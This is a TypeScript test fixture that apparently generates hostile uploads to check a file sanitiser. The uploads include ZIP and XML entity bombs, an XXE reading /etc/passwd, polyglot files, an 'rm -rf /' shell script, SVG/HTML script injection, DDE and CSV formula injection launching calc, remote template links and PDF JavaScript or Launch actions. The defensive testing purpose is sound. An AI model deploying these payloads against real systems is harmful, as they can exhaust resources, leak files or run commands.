import { randomBytes } from 'node:crypto'
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import type { FileKind, Refusal } from '../model'
import {
  changedLater,
  docx,
  MARKER,
  odf,
  onePage,
  type Parts,
  pagesPdf,
  png,
  pngChunk,
  pptx,
  type Relation,
  relations,
  stream,
  xlsx,
  zip,
} from './documents'

export interface HostileFile {
  /** What it tries, in words. */
  about: string
  name: string
  make: () => Promise<Buffer> | Buffer
  /** Refused with this, or kept as this kind without what it carried. */
  becomes: { refused: Refusal } | { kept: FileKind }
}

const MEBIBYTE = 1024 * 1024
const refused = (code: Refusal) => ({ refused: code })
const kept = (kind: FileKind) => ({ kept: kind })

const PIXEL = () => ({ create: { width: 64, height: 48, channels: 3 as const, background: '#345' } })
const EXIF = {
  IFD0: { Artist: MARKER, Copyright: MARKER },
  IFD3: {
    GPSLatitudeRef: 'N',
    GPSLatitude: '41/1 18/1 0/1',
    GPSLongitudeRef: 'E',
    GPSLongitude: '69/1 16/1 0/1',
  },
}
/** With a place in it, and turned. */
const photo = (format: 'jpeg' | 'png' | 'webp') =>
  sharp(PIXEL()).withExif(EXIF).withMetadata({ orientation: 6, exif: EXIF })[format]().toBuffer()
const plainJpeg = () => sharp(PIXEL()).jpeg().toBuffer()

/** `count` entries that share one packed body: small as a file, without end when inflated. */
function overlapping(count: number, inflated: number): Buffer {
  const packed = deflateRawSync(Buffer.alloc(inflated))
  const name = (index: number) => Buffer.from(index === 0 ? '[Content_Types].xml' : `word/part${index}.xml`)
  const local = Buffer.alloc(30)
  local.write('PK\x03\x04', 'latin1')
  local.writeUInt16LE(20, 4)
  local.writeUInt16LE(8, 8)
  local.writeUInt32LE(packed.length, 18)
  local.writeUInt32LE(inflated, 22)
  local.writeUInt16LE(name(0).length, 26)
  const body = Buffer.concat([local, name(0), packed])
  const entries = Array.from({ length: count }, (_, index) => {
    const head = Buffer.alloc(46)
    head.write('PK\x01\x02', 'latin1')
    head.writeUInt16LE(20, 6)
    head.writeUInt16LE(8, 10)
    head.writeUInt32LE(packed.length, 20)
    head.writeUInt32LE(inflated, 24)
    head.writeUInt16LE(name(index).length, 28)
    return Buffer.concat([head, name(index)])
  })
  const directory = Buffer.concat(entries)
  const end = Buffer.alloc(22)
  end.write('PK\x05\x06', 'latin1')
  end.writeUInt16LE(count, 8)
  end.writeUInt16LE(count, 10)
  end.writeUInt32LE(directory.length, 12)
  end.writeUInt32LE(body.length, 16)
  return Buffer.concat([body, directory, end])
}

async function nested(depth: number): Promise<Buffer> {
  let inner: Buffer = Buffer.alloc(MEBIBYTE)
  for (let level = 0; level < depth; level++)
    inner = await zip({ [`${level}.zip`]: inner, [`copy${level}.zip`]: inner })
  return inner
}

/** As Office keeps a file under a password. */
const underPassword = () =>
  Buffer.concat([
    Buffer.from('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', 'latin1'),
    Buffer.alloc(1016),
    Buffer.from('EncryptedPackage', 'utf16le'),
    Buffer.alloc(2000),
  ])
const compound = () =>
  Buffer.concat([Buffer.from('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', 'latin1'), Buffer.alloc(2000)])

const program = () => Buffer.concat([Buffer.from('MZ\x90\0', 'latin1'), randomBytes(500)])
const SCRIPT = `<script>alert('${MARKER}')</script>`
const svg = () => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`)
const html = () => Buffer.from(`<!doctype html><html><body>${SCRIPT}</body></html>`)

const wordField = (instruction: string) => {
  // In two pieces, as Word itself may write it.
  const half = Math.ceil(instruction.length / 3)
  const piece = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`
  return docx({}, `<w:p>${piece(instruction.slice(0, half))}${piece(instruction.slice(half))}</w:p>`)
}
const docxWith = (parts: Parts, ...inside: Relation[]) =>
  docx({ 'word/_rels/document.xml.rels': relations(...inside), ...parts })

/** A workbook whose sheet lies where its relation says. */
const elsewhere = (part: string, formula: string) =>
  xlsx({
    'xl/_rels/workbook.xml.rels': relations(['worksheet', `/${part}`]),
    [part]: `<worksheet><sheetData><row r="1"><c r="A1"><f>${formula.replaceAll('"', '&quot;')}</f></c></row></sheetData></worksheet>`,
  })

const ENTITIES = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "${'x'.repeat(100)}"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><w:document xmlns:w="w">&b;</w:document>`
const FOREIGN =
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><w:document xmlns:w="w">&f;</w:document>'

const CSV = (cell: string) => Buffer.from(`region;centres\nNorth;${cell}\n`)

export const HOSTILE: readonly HostileFile[] = [
  // Bombs.
  {
    about: 'a ZIP bomb named as a document',
    name: 'plan.docx',
    make: () => overlapping(40, 8 * MEBIBYTE),
    becomes: refused('bomb'),
  },
  {
    about: 'ten thousand entries',
    name: 'plan.docx',
    make: () => overlapping(10_000, 10),
    becomes: refused('bomb'),
  },
  { about: 'ZIPs in ZIPs', name: 'plan.docx', make: () => nested(6), becomes: refused('archive') },
  {
    about: 'a document in which one part inflates a thousandfold',
    name: 'plan.docx',
    make: () => docx({ 'word/styles.xml': Buffer.alloc(60 * MEBIBYTE, ' ') }),
    becomes: refused('bomb'),
  },
  {
    about: 'a PNG that inflates to a gigapixel',
    name: 'a.png',
    make: () => png(32_000, 32_000, Buffer.alloc(1000)),
    becomes: refused('too_many_pixels'),
  },
  {
    about: 'a PNG one line over the limit',
    name: 'a.png',
    make: () => png(8000, 5001, Buffer.alloc(8001 * 10)),
    becomes: refused('too_many_pixels'),
  },
  {
    about: 'a JPEG of huge size by its head',
    name: 'a.jpg',
    make: async () => withHugeHead(await plainJpeg()),
    becomes: refused('too_many_pixels'),
  },
  {
    about: 'a PDF whose stream inflates without end',
    name: 'a.pdf',
    make: () => onePage({ page: '/Extra 6 0 R', more: [stream(Buffer.alloc(300 * MEBIBYTE))] }),
    becomes: refused('bomb'),
  },
  {
    about: 'a PDF that is packed twice',
    name: 'a.pdf',
    make: () =>
      onePage({
        page: '/Extra 6 0 R',
        more: [
          stream(
            Buffer.alloc(0),
            '/Filter[/FlateDecode/FlateDecode]',
            deflateSync(deflateSync(Buffer.alloc(50 * MEBIBYTE))),
          ),
        ],
      }),
    becomes: refused('bomb'),
  },
  {
    about: 'entities that grow',
    name: 'plan.docx',
    make: () => docx({ 'word/document.xml': ENTITIES }),
    becomes: refused('bomb'),
  },
  {
    about: 'an entity that names a file of ours',
    name: 'plan.docx',
    make: () => docx({ 'word/document.xml': FOREIGN }),
    becomes: refused('bomb'),
  },
  {
    about: 'a PDF of too many pages',
    name: 'a.pdf',
    make: () => pagesPdf(501),
    becomes: refused('too_many_pages'),
  },

  // Two files in one.
  {
    about: 'a PDF with a ZIP behind it',
    name: 'a.pdf',
    make: async () => Buffer.concat([onePage(), await zip({ 'a.class': 'x' })]),
    becomes: refused('two_in_one'),
  },
  {
    about: 'a PDF with markup behind it',
    name: 'a.pdf',
    make: () => Buffer.concat([onePage(), Buffer.from(`\n<html>${SCRIPT.repeat(5)}</html>`)]),
    becomes: refused('two_in_one'),
  },
  {
    about: 'a page of the web with a PDF behind it',
    name: 'a.pdf',
    make: () => Buffer.concat([Buffer.from(`<html>${SCRIPT}`), onePage()]),
    becomes: refused('two_in_one'),
  },
  {
    about: 'a GIF that is a Java archive',
    name: 'a.png',
    make: async () =>
      Buffer.concat([
        Buffer.from('GIF89a\x01\0\x01\0\0\0\0;', 'latin1'),
        await zip({ 'META-INF/MANIFEST.MF': 'x' }),
      ]),
    becomes: refused('unknown_type'),
  },
  {
    about: 'a JPEG with an archive behind it',
    name: 'a.jpg',
    make: async () => Buffer.concat([await plainJpeg(), await zip({ 'a.exe': 'MZ' })]),
    becomes: refused('two_in_one'),
  },
  {
    about: 'a JPEG with a RAR behind it',
    name: 'a.jpg',
    make: async () =>
      Buffer.concat([await plainJpeg(), Buffer.from('Rar!\x1a\x07\0', 'latin1'), randomBytes(64)]),
    becomes: refused('two_in_one'),
  },
  {
    about: 'a PNG with a script behind it',
    name: 'a.png',
    make: async () => Buffer.concat([await photo('png'), html()]),
    becomes: refused('two_in_one'),
  },
  {
    about: 'a document with a program behind it',
    name: 'plan.docx',
    make: async () => Buffer.concat([await docx(), program()]),
    becomes: refused('two_in_one'),
  },
  {
    about: 'a photograph with other bytes behind it',
    name: 'a.jpg',
    make: async () => Buffer.concat([await plainJpeg(), Buffer.from(MARKER.repeat(9))]),
    becomes: kept('jpg'),
  },

  // Something else than it says.
  { about: 'a program named as a PDF', name: 'a.pdf', make: program, becomes: refused('program') },
  {
    about: 'a shell script named as text',
    name: 'a.txt',
    make: () => Buffer.from('#!/bin/sh\nrm -rf /\n'),
    becomes: refused('program'),
  },
  {
    about: 'an archive named as a PDF',
    name: 'a.pdf',
    make: () => zip({ 'a.txt': 'x' }),
    becomes: refused('type_mismatch'),
  },
  {
    about: 'a ZIP named as a document',
    name: 'plan.docx',
    make: () => zip({ 'a.txt': 'x' }),
    becomes: refused('archive'),
  },
  {
    about: 'an archive as such',
    name: 'a.zip',
    make: () => zip({ 'a.txt': 'x' }),
    becomes: refused('archive'),
  },
  {
    about: 'a packed text named as text',
    name: 'a.txt',
    make: () => gzipSync('x'.repeat(1000)),
    becomes: refused('archive'),
  },
  { about: 'a drawing with a script', name: 'a.svg', make: svg, becomes: refused('web_page') },
  {
    about: 'a drawing with a script named as a picture',
    name: 'a.png',
    make: svg,
    becomes: refused('type_mismatch'),
  },
  { about: 'a drawing with a script named as text', name: 'a.txt', make: svg, becomes: refused('web_page') },
  { about: 'a page of the web named as text', name: 'a.txt', make: html, becomes: refused('web_page') },
  { about: 'a page of the web named as a PDF', name: 'a.pdf', make: html, becomes: refused('type_mismatch') },
  { about: 'a page of the web in a table', name: 'a.csv', make: html, becomes: refused('web_page') },
  {
    about: 'a page of the web in UTF-16',
    name: 'a.txt',
    make: () => Buffer.from(`\ufeff${html().toString()}`, 'utf16le'),
    becomes: refused('web_page'),
  },
  { about: 'a picture named as another', name: 'a.png', make: plainJpeg, becomes: refused('type_mismatch') },
  {
    about: 'a workbook named as a document',
    name: 'plan.docx',
    make: () => xlsx(),
    becomes: refused('type_mismatch'),
  },
  { about: 'an old document', name: 'plan.doc', make: compound, becomes: refused('old_office') },
  {
    about: 'XML as such',
    name: 'a.xml',
    make: () => Buffer.from('<?xml version="1.0"?><a/>'),
    becomes: refused('web_page'),
  },
  {
    about: 'nothing that is known',
    name: 'a.pdf',
    make: () => randomBytes(2000),
    becomes: refused('type_mismatch'),
  },

  // Documents that act.
  {
    about: 'a document with macros',
    name: 'plan.docx',
    make: () => docx({ 'word/vbaProject.bin': compound() }),
    becomes: refused('macros'),
  },
  {
    about: 'a document named for its macros',
    name: 'plan.docm',
    make: () => docx(),
    becomes: refused('macros'),
  },
  {
    about: 'a type of content with macros',
    name: 'plan.xlsx',
    make: () =>
      xlsx({
        '[Content_Types].xml':
          '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macro&#69;nabled.main+xml"/></Types>',
      }),
    becomes: refused('macros'),
  },
  {
    about: 'old macros on a sheet of their own',
    name: 'plan.xlsx',
    make: () => xlsx({ 'xl/macrosheets/sheet1.xml': '<xm:macrosheet/>' }),
    becomes: refused('macros'),
  },
  {
    about: 'a control',
    name: 'plan.docx',
    make: () => docx({ 'word/activeX/activeX1.xml': '<ax/>' }),
    becomes: refused('macros'),
  },
  {
    about: 'an object of another program',
    name: 'plan.docx',
    make: () =>
      docxWith({ 'word/embeddings/oleObject1.bin': compound() }, ['oleObject', 'embeddings/oleObject1.bin']),
    becomes: refused('embedded'),
  },
  {
    about: 'a program in a picture’s place',
    name: 'plan.docx',
    make: () => docx({ 'word/media/image1.emf': program() }),
    becomes: refused('embedded'),
  },
  {
    about: 'a field that starts a program',
    name: 'plan.docx',
    make: () => wordField(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
    becomes: refused('macros'),
  },
  {
    about: 'a cell that starts a program',
    name: 'plan.xlsx',
    make: () => xlsx({}, '<c r="A1"><f>cmd|\'/c calc\'!A0</f></c>'),
    becomes: refused('macros'),
  },
  {
    about: 'a sheet outside the folder of sheets, with a cell that starts a program',
    name: 'plan.xlsx',
    make: () => elsewhere('xl/data/s1.xml', "cmd|'/c calc'!A1"),
    becomes: refused('macros'),
  },
  {
    about: 'a sheet outside the folder of sheets, with a cell that asks a server',
    name: 'plan.xlsx',
    make: () => elsewhere('xl/data/s1.xml', 'WEBSERVICE("http://test.invalid/")'),
    becomes: refused('macros'),
  },
  {
    about: 'a sheet outside the workbook',
    name: 'plan.xlsx',
    make: () => elsewhere('data/s1.xml', '1+1'),
    becomes: refused('broken'),
  },
  {
    about: 'a cell that starts a program, in a section of plain characters',
    name: 'plan.xlsx',
    make: () => xlsx({}, '<c r="A1"><f><![CDATA[cmd|\'/c calc\'!A0]]></f></c>'),
    becomes: refused('macros'),
  },
  {
    about: 'a cell that starts a program, around a remark',
    name: 'plan.xlsx',
    make: () => xlsx({}, '<c r="A1"><f>cmd|<!-- -->\'/c calc\'!A0</f></c>'),
    becomes: refused('macros'),
  },
  {
    about: 'a cell that starts a program, under a prefix in other letters',
    name: 'plan.xlsx',
    make: () => xlsx({}, '<c r="A1"><ә:f>cmd|\'/c calc\'!A0</ә:f></c>'),
    becomes: refused('macros'),
  },
  {
    about: 'a column that asks a server',
    name: 'plan.xlsx',
    make: () =>
      xlsx({
        'xl/tables/table1.xml':
          '<table><calculatedColumnFormula>WEBSERVICE("http://test.invalid/")</calculatedColumnFormula></table>',
      }),
    becomes: refused('macros'),
  },
  {
    about: 'a template from elsewhere, by a relation in capitals',
    name: 'plan.docx',
    make: () =>
      docx({
        'word/settings.xml': '<w:settings xmlns:w="w"/>',
        'word/_rels/settings.xml.RELS': relations(['attachedTemplate', 'http://test.invalid/a.dotm', true]),
      }),
    becomes: refused('external'),
  },
  {
    about: 'a relation whose name is written in numbers',
    name: 'plan.docx',
    make: () =>
      docx({
        'word/_rels/settings.xml.rel%73': relations(['attachedTemplate', 'http://test.invalid/a', true]),
      }),
    becomes: refused('broken'),
  },
  {
    about: 'who wrote it, under names in other letters and places',
    name: 'plan.docx',
    make: () =>
      docx({
        'docprops/Core2.xml': `<cp:coreProperties xmlns:cp="c" xmlns:dc="d"><dc:creator>${MARKER}</dc:creator></cp:coreProperties>`,
        'docMetadata/LabelInfo.xml': `<clbl:labelList xmlns:clbl="c"><clbl:label id="${MARKER}"/></clbl:labelList>`,
        'Word/People.xml': `<w15:people xmlns:w15="w"><w15:person w15:author="${MARKER}"/></w15:people>`,
      }),
    becomes: kept('docx'),
  },
  {
    about: 'who commented, in a part of another name',
    name: 'plan.xlsx',
    make: () =>
      xlsx({
        'xl/said/1.xml': `<comments><authors><author>${MARKER}</author></authors></comments>`,
        'xl/said/2.xml': `<personList><person displayName="${MARKER}" userId="${MARKER}"/></personList>`,
      }),
    becomes: kept('xlsx'),
  },
  {
    about: 'a cell that starts a program, in a table',
    name: 'a.csv',
    make: () => CSV("=cmd|'/c calc'!A0"),
    becomes: refused('formula'),
  },
  {
    about: 'a cell that sends the rest away',
    name: 'a.csv',
    make: () => CSV('@SUM(1+9)*cmd|A0'),
    becomes: refused('formula'),
  },
  {
    about: 'a template from elsewhere',
    name: 'plan.docx',
    make: () =>
      docx({
        'word/_rels/settings.xml.rels': relations(['attachedTemplate', 'https://test.invalid/a.dotm', true]),
      }),
    becomes: refused('external'),
  },
  {
    about: 'a template from elsewhere, written otherwise',
    name: 'plan.docx',
    make: () =>
      docx({
        'word/_rels/settings.xml.rels': relations(['attachedTemplate', 'https://test.invalid/a.dotm', true])
          .replace('"External"', "'&#x45;xternal'")
          .replace('<Relationship ', '<x:Relationship '),
      }),
    becomes: refused('external'),
  },
  {
    about: 'a picture from elsewhere',
    name: 'plan.docx',
    make: () => docxWith({}, ['image', 'http://test.invalid/a.png', true]),
    becomes: refused('external'),
  },
  {
    about: 'a link to a share',
    name: 'plan.docx',
    make: () => docxWith({}, ['hyperlink', 'file://test.invalid/share', true]),
    becomes: refused('external'),
  },
  {
    about: 'another workbook',
    name: 'plan.xlsx',
    make: () => xlsx({ 'xl/externalLinks/externalLink1.xml': '<externalLink/>' }),
    becomes: refused('external'),
  },
  {
    about: 'a document under a password',
    name: 'plan.docx',
    make: underPassword,
    becomes: refused('encrypted'),
  },
  {
    about: 'macros in an open document',
    name: 'plan.odt',
    make: () => odf('text', { 'Basic/Standard/Module1.xml': '<module/>' }),
    becomes: refused('macros'),
  },
  {
    about: 'an event in an open document',
    name: 'plan.odt',
    make: () =>
      odf(
        'text',
        {},
        '<office:event-listeners><script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.script:a?language=Basic"/></office:event-listeners>',
      ),
    becomes: refused('macros'),
  },
  {
    about: 'a picture from elsewhere in an open document',
    name: 'plan.odt',
    make: () =>
      odf('text', {}, '<draw:frame><draw:image xlink:href="http://test.invalid/a.png"/></draw:frame>'),
    becomes: refused('external'),
  },
  {
    about: 'an object in an open document',
    name: 'plan.ods',
    make: () => odf('spreadsheet', { 'Object 1': compound() }),
    becomes: refused('embedded'),
  },
  {
    about: 'an open document under a password',
    name: 'plan.odp',
    make: () =>
      odf(
        'presentation',
        {},
        '',
        '<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry>',
      ),
    becomes: refused('encrypted'),
  },

  // What is broken.
  {
    about: 'half a photograph',
    name: 'a.jpg',
    make: async () =>
      (
        await sharp({
          create: {
            width: 640,
            height: 480,
            channels: 3,
            noise: { type: 'gaussian', mean: 128, sigma: 30 },
            background: '#fff',
          },
        })
          .jpeg()
          .toBuffer()
      ).subarray(0, 9000),
    becomes: refused('broken'),
  },
  {
    about: 'half a document',
    name: 'plan.docx',
    make: async () => (await docx()).subarray(0, 900),
    becomes: refused('broken'),
  },
  {
    about: 'a PDF of its head alone',
    name: 'a.pdf',
    make: () => Buffer.from('%PDF-1.7\n'),
    becomes: refused('broken'),
  },
  {
    about: 'two parts of one name',
    name: 'plan.docx',
    make: async () => twice(await docx()),
    becomes: refused('broken'),
  },
  {
    about: 'a path out of the document',
    name: 'plan.docx',
    make: async () =>
      renamed(await docx({ 'word/aa/bb/c.xml': '<a/>' }), 'word/aa/bb/c.xml', '../../../../c.xml'),
    becomes: refused('broken'),
  },
  {
    about: 'text with a NUL',
    name: 'a.txt',
    make: () => Buffer.from('abc\0def'),
    becomes: refused('encoding'),
  },
  {
    about: 'text that is noise',
    name: 'a.txt',
    make: () => Buffer.from(Array.from({ length: 400 }, (_, index) => 128 + ((index * 37) % 128))),
    becomes: refused('encoding'),
  },

  // What is kept without what it carried.
  { about: 'a photograph with a place', name: 'a.jpg', make: () => photo('jpeg'), becomes: kept('jpg') },
  { about: 'a picture with a place', name: 'a.png', make: () => photo('png'), becomes: kept('png') },
  { about: 'a WebP with a place', name: 'a.webp', make: () => photo('webp'), becomes: kept('webp') },
  {
    about: 'a picture with words beside it',
    name: 'a.png',
    make: () => png(4, 4, Buffer.alloc(20), [pngChunk('tEXt', Buffer.from(`Comment\0${MARKER}`))]),
    becomes: kept('png'),
  },
  {
    about: 'a photograph with a place in a document',
    name: 'plan.docx',
    make: async () =>
      docxWith({ 'word/media/image1.jpeg': await photo('jpeg') }, ['image', 'media/image1.jpeg']),
    becomes: kept('docx'),
  },
  {
    about: 'comments and changes with names',
    name: 'plan.docx',
    make: () =>
      docx({
        'word/comments.xml': `<w:comments xmlns:w="w"><w:comment w:id="0" w:author="${MARKER}" w:initials="${MARKER}"/></w:comments>`,
        'word/people.xml': `<w15:people xmlns:w15="w"><w15:person w15:author="${MARKER}"><w15:presenceInfo w15:providerId="AD" w15:userId="${MARKER}"/></w15:person></w15:people>`,
        'customXml/item1.xml': `<a>${MARKER}</a>`,
        'docProps/custom.xml': `<a>${MARKER}</a>`,
        'docProps/thumbnail.jpeg': MARKER,
      }),
    becomes: kept('docx'),
  },
  {
    about: 'a workbook that says where it lay',
    name: 'plan.xlsx',
    make: () =>
      xlsx({
        'xl/comments1.xml': `<comments><authors><author>${MARKER}</author></authors></comments>`,
        'xl/printerSettings/printerSettings1.bin': MARKER,
      }),
    becomes: kept('xlsx'),
  },
  { about: 'a presentation with names', name: 'plan.pptx', make: () => pptx(), becomes: kept('pptx') },
  {
    about: 'an open document with names',
    name: 'plan.odt',
    make: () =>
      odf(
        'text',
        { 'Thumbnails/thumbnail.png': MARKER },
        `<text:p><office:annotation><dc:creator>${MARKER}</dc:creator></office:annotation>Ten</text:p>`,
      ),
    becomes: kept('odt'),
  },
  {
    about: 'scripts in a PDF',
    name: 'a.pdf',
    make: () =>
      onePage({
        catalog: '/OpenAction 6 0 R/Names<</JavaScript<</Names[(a) 6 0 R]>>>>/AA<</WC 6 0 R>>',
        more: [`<</S/JavaScript/JS(app.alert\\('${MARKER}'\\))>>`],
      }),
    becomes: kept('pdf'),
  },
  {
    about: 'scripts of a page that the names of a PDF name too',
    name: 'a.pdf',
    make: () =>
      onePage({
        catalog: '/Dests 3 0 R',
        page: '/AA<</O 6 0 R>>',
        more: [`<</S/JavaScript/JS(app.alert\\('${MARKER}'\\))>>`],
      }),
    becomes: kept('pdf'),
  },
  {
    about: 'scripts of a page in a list of fonts',
    name: 'a.pdf',
    make: () =>
      onePage({
        catalog: '/PageLabels<</Font[3 0 R]>>',
        page: '/AA<</O 6 0 R>>',
        more: [`<</S/JavaScript/JS(app.alert\\('${MARKER}'\\))>>`],
      }),
    becomes: kept('pdf'),
  },
  {
    about: 'a program that a PDF starts',
    name: 'a.pdf',
    make: () =>
      onePage({
        page: '/Annots[6 0 R]',
        more: [`<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<</S/Launch/F(${MARKER}.exe)>>>>`],
      }),
    becomes: kept('pdf'),
  },
  {
    about: 'a file in a PDF',
    name: 'a.pdf',
    make: () =>
      onePage({
        catalog: '/Names<</EmbeddedFiles<</Names[(a) 6 0 R]>>>>',
        more: [
          `<</Type/Filespec/F(a.exe)/EF<</F 7 0 R>>>>`,
          stream(Buffer.from(MARKER), '/Type/EmbeddedFile', Buffer.from(MARKER)),
        ],
      }),
    becomes: kept('pdf'),
  },
  {
    about: 'a PDF with names and a description',
    name: 'a.pdf',
    make: () =>
      onePage({
        catalog: '/Metadata 6 0 R',
        trailer: '/Info 7 0 R',
        more: [
          stream(
            Buffer.from(MARKER),
            '/Type/Metadata/Subtype/XML',
            Buffer.from(`<x:xmpmeta>${MARKER}</x:xmpmeta>`),
          ),
          `<</Author(${MARKER})>>`,
        ],
      }),
    becomes: kept('pdf'),
  },
  {
    about: 'an earlier version of a PDF',
    name: 'a.pdf',
    make: () => changedLater(onePage({ page: '/Old 6 0 R', more: [`(${MARKER})`] }), 6, '(nothing)'),
    becomes: kept('pdf'),
  },
  {
    about: 'a photograph with a place in a PDF',
    name: 'a.pdf',
    make: async () =>
      onePage({
        page: '/Photo 6 0 R',
        more: [
          stream(
            Buffer.alloc(0),
            '/Type/XObject/Subtype/Image/Width 48/Height 64/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/DCTDecode',
            await photo('jpeg'),
          ),
        ],
      }),
    becomes: kept('pdf'),
  },
  {
    about: 'a form that sends what is typed',
    name: 'a.pdf',
    make: () =>
      onePage({
        catalog: '/AcroForm<</Fields[6 0 R]/XFA(x)>>',
        page: '/Annots[6 0 R]',
        more: [
          `<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(typed)/Rect[10 10 99 30]/AA<</K<</S/SubmitForm/F(http://test.invalid/${MARKER})>>>>>>`,
        ],
      }),
    becomes: kept('pdf'),
  },
  {
    about: 'letters that turn what is read around',
    name: 'a.txt',
    make: () => Buffer.from('paid \u202E0001\u202C of 5'),
    becomes: kept('txt'),
  },
]

/** Its head says 60,000 by 60,000. */
function withHugeHead(jpeg: Buffer): Buffer {
  const at = jpeg.indexOf(Buffer.from([0xff, 0xc0]))
  const changed = Buffer.from(jpeg)
  changed.writeUInt16BE(60_000, at + 5)
  changed.writeUInt16BE(60_000, at + 7)
  return changed
}

/** The list of entries names the last one twice. */
function twice(file: Buffer): Buffer {
  const end = file.length - 22
  const start = file.readUInt32LE(end + 16)
  const last = file.lastIndexOf('PK\x01\x02', undefined, 'latin1')
  const entry = file.subarray(last, end)
  const tail = Buffer.from(file.subarray(end))
  tail.writeUInt16LE(tail.readUInt16LE(8) + 1, 8)
  tail.writeUInt16LE(tail.readUInt16LE(10) + 1, 10)
  tail.writeUInt32LE(end + entry.length - start, 12)
  return Buffer.concat([file.subarray(0, end), entry, tail])
}

/** A name of the same length in its place. */
function renamed(file: Buffer, from: string, to: string): Buffer {
  const name = to.padEnd(from.length, 'x').slice(0, from.length)
  return Buffer.from(file.toString('latin1').replaceAll(from, name), 'latin1')
}
